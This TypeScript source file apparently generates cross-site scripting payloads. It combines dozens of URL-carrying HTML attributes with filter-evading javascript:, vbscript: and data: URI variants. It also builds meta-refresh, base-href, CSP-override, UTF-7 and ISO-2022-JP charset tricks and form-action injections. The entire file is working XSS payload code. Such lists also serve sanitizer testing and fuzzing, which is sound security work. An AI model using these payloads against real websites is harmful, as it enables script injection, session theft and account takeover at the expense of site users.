import type { Writer } from './payload-writer.ts'

const ADDRESSED = `
  a href | area href | form action | button formaction | input type=submit formaction
  input type=image formaction | iframe src | frame src | object data | embed src | base href
  link rel=import href | link rel=stylesheet href | img src | img srcset | img dynsrc | img lowsrc
  image xlink:href | video poster | video src | audio src | source src | track src | body background
  table background | td background | isindex action | q cite | blockquote cite | bgsound src | applet code
  param value | portal src | fencedframe src | a ping | svg xmlns | math href | math xlink:href
  meta http-equiv=refresh content | html manifest
`
  .trim()
  .split(/\s+\|\s+|\s*\n\s*/)

export function addresses(): Writer[] {
  const forms: Writer[] = [
    (code) => `javascript:${code}`,
    (code) => `JaVaScRiPt:${code}`,
    (code) => `java\tscript:${code}`,
    (code) => `java\nscript:${code}`,
    (code) => `\u0001javascript:${code}`,
    (code) => ` \u0000javascript:${code}`,
    (code) => `&#106;avascript:${code}`,
    (code) => `javascript&colon;${code}`,
    (code) => `javas&Tab;cript:${code}`,
    (code) => `javascript&#x3A;${code}`,
    (code) => `javascript://%0a${code}`,
    (code) => `vbscript:${code}`,
    (code) => `data:text/html,<script>${code}</script>`,
    (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
    (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
    (code) => `0;url=javascript:${code}`,
    (code) => `feed:javascript:${code}`,
    (code) => `cid:x" onerror="${code}`,
  ]
  return ADDRESSED.flatMap((place) =>
    forms.map(
      (form): Writer =>
        (code) =>
          `<${place}="${form(code)}">press</a>`,
    ),
  )
}

export function metas(): Writer[] {
  const contents: Writer[] = [
    (code) => `0;url=javascript:${code}`,
    (code) => `0; url='javascript:${code}'`,
    (code) => `0;url=data:text/html,<script>${code}</script>`,
    (code) => `0;url=data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  ]
  return [
    ...contents.flatMap((content): Writer[] => [
      (code) => `<meta http-equiv=refresh content="${content(code)}">`,
      (code) => `<META HTTP-EQUIV="Refresh" CONTENT="${content(code)}">`,
      (code) => `<head><meta http-equiv="refresh" content="${content(code)}"></head>`,
    ]),
    (code) => `<base href="javascript:/"><a href="#${code}">press</a><img src=x onerror=${code}>`,
    (code) => `<base href="data:text/javascript,${code}//"><script src="x"></script>`,
    (code) =>
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${code}</script>`,
    (code) => `<meta charset=utf-7>+ADw-script+AD4-${code}+ADw-/script+AD4-`,
    (code) =>
      `<meta charset=iso-2022-jp><img alt="\u001b$B"><b title="\u001b(B onerror=${code}>"><img src=x onerror=${code}>`,
  ]
}

export function forms(): Writer[] {
  const triggers = [
    '<button>press</button>',
    '<input type=submit>',
    '<input type=image src=x>',
    '<input autofocus onfocus=this.form.submit()>',
  ]
  return triggers.flatMap((trigger): Writer[] => [
    (code) => `<form action="javascript:${code}">${trigger}</form>`,
    (code) => `<form id=f></form>${trigger.replace('>', ` form=f formaction="javascript:${code}">`)}`,
    (code) => `<form action=x onsubmit=${code}>${trigger}</form>`,
    (code) => `<form action="data:text/html,<script>${code}</script>" target=_self>${trigger}</form>`,
    (code) => `<isindex action="javascript:${code}" type=image>${trigger}`,
  ])
}
